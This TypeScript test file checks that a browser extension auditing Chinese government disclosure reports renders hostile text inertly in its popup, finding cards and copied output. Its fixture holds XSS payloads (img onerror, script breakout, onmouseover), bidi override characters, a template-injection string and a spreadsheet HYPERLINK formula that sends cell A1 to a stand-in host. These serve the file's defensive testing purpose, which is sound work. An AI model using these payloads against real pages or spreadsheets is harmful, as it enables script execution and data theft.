/** Text that wants to be more: markup, formulas and marks that turn the direction of what follows, in cells and names. */
import type { Page } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { report } from '../fixtures/index.ts';
import { card, type Harness, KINDS, lit, pasted, rows, start, until } from './harness.ts';

const MARKUP = '<img src=x onerror="window.executed=1">';
const SCRIPT = '</td><script>window.executed=1</script>';
const FORMULA = '=HYPERLINK("http://www.evil.gov.cn/"&A1,"8")';
const TURNED = '\u202e73\u2066\u2067';

const fixture = report({
  agency: '云泽市<b onmouseover=window.executed=1>自然资源局',
  faults: {
    title: `云泽市自然资源局2024年政府信息公开工作年度报告${MARKUP}`,
    cells: {
      'disclosure.regulations@made': MARKUP,
      'disclosure.regulations@repealed': SCRIPT,
      'disclosure.regulations@inForce': FORMULA,
      'applications.carriedForward@total': TURNED,
      'proceedings.review@total': '10',
    },
    text: { problems: [`主要问题：${MARKUP}＿＿＿。`, `改进情况：${FORMULA}；{{constructor.constructor('x')()}}。`] },
  },
});

/** What a page holds that text alone cannot have put there. */
function grown(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const views = [document, document.querySelector('crossfoot-ui')?.shadowRoot];
    const strange = views.flatMap((root) => [
      ...(root?.querySelectorAll('img, script:not([src]), b[onmouseover]') ?? []),
    ]);
    const made = strange.filter(
      (each) => each.closest('head') === null && !/^data:/.test(each.getAttribute('src') ?? ''),
    );
    return [...made.map(({ outerHTML }) => outerHTML), ...('executed' in window ? ['executed'] : [])];
  });
}

describe.each(KINDS)('hostile text in %s', (kind) => {
  let harness: Harness;
  let page: Page;
  let popup: Page;
  beforeAll(async () => {
    harness = await start(kind);
    page = await harness.open(fixture);
    await until(
      () => harness.badge(fixture.url),
      (badge) => badge !== '',
    );
    popup = await harness.popup(fixture.url);
  });
  afterAll(() => harness?.close());

  it('is shown letter by letter in the popup, and nothing of it is run or loaded', async () => {
    const found = await rows(popup);
    const bad = found.filter(({ rule }) => rule === 'cell-not-a-number').flatMap(({ fields }) => fields);
    expect(bad).toEqual(expect.arrayContaining(['disclosure.regulations@made', 'disclosure.regulations@inForce']));
    const text = await popup.evaluate(() => document.body.textContent);
    expect(text).toContain('<img src=x');
    expect(await grown(popup)).toEqual([]);
    expect(await grown(page)).toEqual([]);
    expect(text).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
  });

  it('is shown letter by letter in the card of each finding', async () => {
    for (const row of await popup.$$('[data-rule="cell-not-a-number"]')) {
      await row.evaluate((element) => (element as HTMLElement).click());
      await until(
        () => card(page),
        (text) => text !== null,
      );
      expect(await grown(page)).toEqual([]);
      expect(await card(page)).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    }
    expect((await lit(page))['error']?.length).toBeGreaterThan(2);
  });

  it.each(['findings', 'figures'])('is text in what is copied: %s', async (what) => {
    const popup = await harness.popup(fixture.url);
    await popup.bringToFront();
    await popup.click(`[data-copy="${what}"]`);
    await popup.waitForFunction(() => document.querySelector('[role="status"].told') !== null);
    const { html, text } = await pasted(harness);
    expect(html).not.toMatch(/<(?:img|script|b on)/i);
    expect(html).toContain('&lt;img src=x');
    // A spreadsheet takes a cell that begins so for a formula, unless it is told that it is text.
    expect(html).not.toMatch(/<td(?![^>]*mso-number-format:'\\@')[^>]*>\s*=/);
    expect(text).not.toMatch(/(?:^|\t)=/m);
    expect(`${html}${text}`).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    await popup.close();
  });
});
